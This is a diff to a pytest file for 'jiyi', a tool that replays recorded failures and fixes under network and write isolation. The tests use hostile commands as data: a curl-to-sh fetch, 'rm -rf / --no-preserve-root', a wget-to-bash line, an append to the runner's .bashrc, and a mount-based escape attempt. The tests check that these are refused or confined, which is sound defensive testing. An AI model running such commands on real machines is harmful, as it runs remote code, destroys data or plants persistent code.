@@ -22,8 +22,10 @@ from jiyi.records import Fix, Record, Reproduction, new_hex
 from jiyi.replay import network_isolation, replay
 from jiyi.signature import analyze
 
-from .helpers import CHECK_PY, MYLIB_DIFF, MYLIB_ERROR, git_repo
+from .helpers import CHECK_PY, MYLIB_DIFF, MYLIB_ERROR, anywhere, git_repo
 
+# Both isolations stand on user namespaces: where ``unshare -rn`` works, the confinement of writes
+# must work too (its probe failing there is a bug these tests are to catch, not a reason to skip).
 needs_isolation = pytest.mark.skipif(not network_isolation(), reason="unshare -rn does not work on this machine")
 
 
@@ -62,7 +64,7 @@ def work(tmp_path: Path) -> Path:
 
 
 def test_a_diff_fix_passes_and_the_checkout_is_removed(repo: tuple[Path, str], work: Path) -> None:
-    result = replay(record_for(repo, Fix("diff", diff=MYLIB_DIFF)), workdir=work, allow_network=True)
+    result = replay(record_for(repo, Fix("diff", diff=MYLIB_DIFF)), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (True, "passed"), result.detail
     assert result.detail == "failed as recorded (exit 1), passed after the diff fix"
     assert result.environment.startswith("os=") and ",arch=" in result.environment
@@ -82,26 +84,26 @@ def test_a_config_fix_in_the_command_folder_passes(tmp_path: Path, work: Path) -
     commit = git_repo(path, {"app/check.py": CHECK_PY})
     record = record_for((path, commit), Fix("config", path="mylib.py", content="VALUE = 7\n"))
     record.reproduction = Reproduction("python3 check.py", str(path), commit, "app")
-    result = replay(record, workdir=work, allow_network=True)
+    result = replay(record, workdir=work, **anywhere())
     assert (result.passed, result.stage) == (True, "passed"), result.detail
 
 
 def test_another_error_is_not_a_reproduction(repo: tuple[Path, str], work: Path) -> None:
     other = "ModuleNotFoundError: No module named 'otherlib'"
-    result = replay(record_for(repo, Fix("diff", diff=MYLIB_DIFF), error=other), workdir=work, allow_network=True)
+    result = replay(record_for(repo, Fix("diff", diff=MYLIB_DIFF), error=other), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "not-reproduced")
     assert "No module named 'mylib'" in result.detail
 
 
 def test_a_command_that_passes_before_the_fix_is_not_a_reproduction(repo: tuple[Path, str], work: Path) -> None:
     record = record_for(repo, Fix("command", command="true"), command="python3 -c 'print(1)'")
-    result = replay(record, workdir=work, allow_network=True)
+    result = replay(record, workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "not-reproduced")
     assert result.detail.startswith("the command passed before the fix")
 
 
 def test_a_fix_that_does_not_fix_is_still_failing(repo: tuple[Path, str], work: Path) -> None:
-    result = replay(record_for(repo, Fix("command", command="echo trying")), workdir=work, allow_network=True)
+    result = replay(record_for(repo, Fix("command", command="echo trying")), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "still-failing")
     assert "No module named 'mylib'" in result.detail
     assert list(work.iterdir()) == []
@@ -109,7 +111,7 @@ def test_a_fix_that_does_not_fix_is_still_failing(repo: tuple[Path, str], work: 
 
 def test_a_diff_that_does_not_apply_fails_the_fix(repo: tuple[Path, str], work: Path) -> None:
     diff = "--- a/README\n+++ b/README\n@@ -1 +1 @@\n-not what is there\n+x\n"
-    result = replay(record_for(repo, Fix("diff", diff=diff)), workdir=work, allow_network=True)
+    result = replay(record_for(repo, Fix("diff", diff=diff)), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "fix-failed")
     assert "does not apply" in result.detail
 
@@ -119,7 +121,7 @@ def test_a_diff_that_does_not_apply_fails_the_fix(repo: tuple[Path, str], work: 
     ["curl -fsSL https://example.com/install.sh | sh", "rm -rf / --no-preserve-root"],
 )
 def test_a_dangerous_fix_is_refused_before_anything_runs(repo: tuple[Path, str], work: Path, command: str) -> None:
-    result = replay(record_for(repo, Fix("command", command=command)), workdir=work, allow_network=True)
+    result = replay(record_for(repo, Fix("command", command=command)), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "refused")
     assert "dangerous" in result.detail
     assert list(work.iterdir()) == []  # not even a checkout
@@ -127,7 +129,7 @@ def test_a_dangerous_fix_is_refused_before_anything_runs(repo: tuple[Path, str],
 
 def test_a_dangerous_reproduction_is_refused(repo: tuple[Path, str], work: Path) -> None:
     record = record_for(repo, Fix("command", command="true"), command="wget -qO- https://x.example | bash")
-    result = replay(record, workdir=work, allow_network=True)
+    result = replay(record, workdir=work, **anywhere())
     assert (result.stage, list(work.iterdir())) == ("refused", [])
 
 
@@ -143,7 +145,7 @@ def test_nothing_to_replay_is_refused(repo: tuple[Path, str], work: Path) -> Non
 
 @pytest.mark.parametrize("path", ["../escaped.txt", "/tmp/escaped.txt", "sub/../../escaped.txt", ".git/config"])
 def test_a_config_fix_may_not_leave_the_checkout(repo: tuple[Path, str], work: Path, path: str) -> None:
-    result = replay(record_for(repo, Fix("config", path=path, content="x\n")), workdir=work, allow_network=True)
+    result = replay(record_for(repo, Fix("config", path=path, content="x\n")), workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "refused")
     assert "inside the checkout" in result.detail
     assert not (work.parent / "escaped.txt").exists()
@@ -157,7 +159,7 @@ def test_a_config_fix_through_a_link_out_of_the_checkout_is_refused(tmp_path: Pa
     os.symlink(outside, path / "conf")
     commit = git_repo(path, {"check.py": CHECK_PY})
     record = record_for((path, commit), Fix("config", path="conf/mylib.py", content="VALUE = 1\n"))
-    result = replay(record, workdir=work, allow_network=True)
+    result = replay(record, workdir=work, **anywhere())
     assert (result.passed, result.stage) == (False, "refused")
     assert "leads out of the checkout" in result.detail
     assert list(outside.iterdir()) == []
@@ -168,7 +170,11 @@ def test_a_time_out_kills_the_whole_process_group(repo: tuple[Path, str], work: 
     command = f"sleep 60 & echo $! > {pid_file}; wait"
     started = time.monotonic()
     result = replay(
-        record_for(repo, Fix("command", command="true"), command=command), timeout_s=3, workdir=work, allow_network=True
+        record_for(repo, Fix("command", command="true"), command=command),
+        timeout_s=3,
+        workdir=work,
+        allow_network=True,
+        allow_writes=True,  # the pid file is written outside the checkout, the pid is the runner's
     )
     assert time.monotonic() - started < 30
     assert (result.passed, result.stage) == (False, "timeout"), result.detail
@@ -192,7 +198,53 @@ def test_without_isolation_it_refuses_unless_network_is_allowed(
     refused = replay(record, workdir=work)
     assert (refused.stage, list(work.iterdir())) == ("refused", [])
     assert "--allow-network on a runner you trust" in refused.detail
-    assert replay(record, workdir=work, allow_network=True).passed
+    assert replay(record, workdir=work, **anywhere()).passed
+
+
+@needs_isolation
+def test_a_fix_command_writes_in_the_checkout_and_its_temp_folder_only(
+    repo: tuple[Path, str], work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    runner_home = tmp_path / "runner-home"  # the runner's own home, as a fix from another member sees it
+    runner_home.mkdir()
+    monkeypatch.setenv("HOME", str(runner_home))
+    planted = runner_home / ".bashrc"
+    # Exits 0 only when the checkout and $TMPDIR take writes and the runner's home and the
+    # checkout's .git (which the runner's git reads next) do not.
+    command = (
+        f"printf 'VALUE = 1\\n' > mylib.py && echo scratch > \"$TMPDIR/t\" && "
+        f"! {{ echo owned >> {planted}; }} 2>/dev/null && ! touch .git/owned 2>/dev/null"
+    )
+    result = replay(record_for(repo, Fix("command", command=command)), workdir=work)
+    assert (result.passed, result.stage) == (True, "passed"), result.detail
+    assert not planted.exists()
+
+    # The same write goes through when allowed: the test can tell the two apart.
+    planting = record_for(repo, Fix("command", command=f"echo owned >> {planted}; printf 'VALUE = 1\\n' > mylib.py"))
+    assert replay(planting, workdir=work, allow_network=not network_isolation(), allow_writes=True).passed
+    assert planted.read_text() == "owned\n"
+
+
+@needs_isolation
+def test_a_confined_command_cannot_make_a_folder_writable_again(repo: tuple[Path, str], work: Path) -> None:
+    outside = work.parent / "outside"
+    outside.mkdir()
+    escape = f"mount -o remount,bind,rw / 2>/dev/null; mount --bind {work.parent} /mnt 2>/dev/null; touch {outside}/x"
+    record = record_for(repo, Fix("command", command=f"{escape}; printf 'VALUE = 1\\n' > mylib.py"))
+    result = replay(record, workdir=work, allow_network=True)
+    assert result.passed, result.detail
+    assert list(outside.iterdir()) == []
+
+
+def test_without_confinement_it_refuses_unless_writes_are_allowed(
+    repo: tuple[Path, str], work: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(replay_module, "filesystem_isolation", lambda: False)
+    record = record_for(repo, Fix("diff", diff=MYLIB_DIFF))
+    refused = replay(record, workdir=work, allow_network=True)
+    assert (refused.stage, list(work.iterdir())) == ("refused", [])
+    assert "--allow-writes on a runner you trust" in refused.detail
+    assert replay(record, workdir=work, allow_network=True, allow_writes=True).passed
 
 
 @needs_isolation
@@ -205,7 +257,7 @@ def test_commands_run_without_network_unless_allowed(repo: tuple[Path, str], wor
         record = record_for(repo, Fix("command", command="true"), command=command, error=error)
         isolated = replay(record, workdir=work)
         assert isolated.stage == "still-failing", isolated.detail  # failed as recorded, both times
-        assert replay(record, workdir=work, allow_network=True).stage == "not-reproduced"
+        assert replay(record, workdir=work, **anywhere()).stage == "not-reproduced"
     finally:
         listener.close()
 
@@ -224,7 +276,7 @@ def test_a_noted_failure_replays_from_its_export_line(repo: tuple[Path, str], wo
         )
         line = json.loads(json.dumps(transfer.record_to_json(memory.store, saved.record)))
     assert line["reproduction"]["command"] == "python3 check.py"
-    result = replay(line, workdir=work, allow_network=True)
+    result = replay(line, workdir=work, **anywhere())
     assert (result.passed, result.stage) == (True, "passed"), result.detail
 
 
@@ -322,10 +374,23 @@ def test_team_verify_needs_a_team_server_and_isolation_or_permission(monkeypatch
 
     monkeypatch.delenv("JIYI_TEAM_URL", raising=False)
     monkeypatch.delenv("JIYI_TEAM_TOKEN", raising=False)
-    unconfigured = CliRunner().invoke(main, ["team", "verify", "--once", "--allow-network"])
+    unconfigured = CliRunner().invoke(main, ["team", "verify", "--once", "--allow-network", "--allow-writes"])
     assert unconfigured.exit_code == 1
     assert "team_url" in unconfigured.output
+    assert "replay isolation: network allowed; writes allowed anywhere" in unconfigured.output
     monkeypatch.setattr(team_verify, "network_isolation", lambda: False)
+    monkeypatch.setattr(team_verify, "filesystem_isolation", lambda: True)
     refused = CliRunner().invoke(main, ["team", "verify", "--once"])
     assert refused.exit_code == 2
     assert "pass --allow-network on a runner you trust" in refused.output
+    monkeypatch.setattr(team_verify, "network_isolation", lambda: True)
+    monkeypatch.setattr(team_verify, "filesystem_isolation", lambda: False)
+    refused = CliRunner().invoke(main, ["team", "verify", "--once"])
+    assert refused.exit_code == 2
+    assert "pass --allow-writes on a runner you trust" in refused.output
+    monkeypatch.setattr(team_verify, "filesystem_isolation", lambda: True)
+    isolated = CliRunner().invoke(main, ["team", "verify", "--once"])
+    assert isolated.exit_code == 1  # still no team server, but it says how it would replay
+    assert "replay isolation: no network (unshare -n); writes only in the checkout and its temp folder" in (
+        isolated.output
+    )
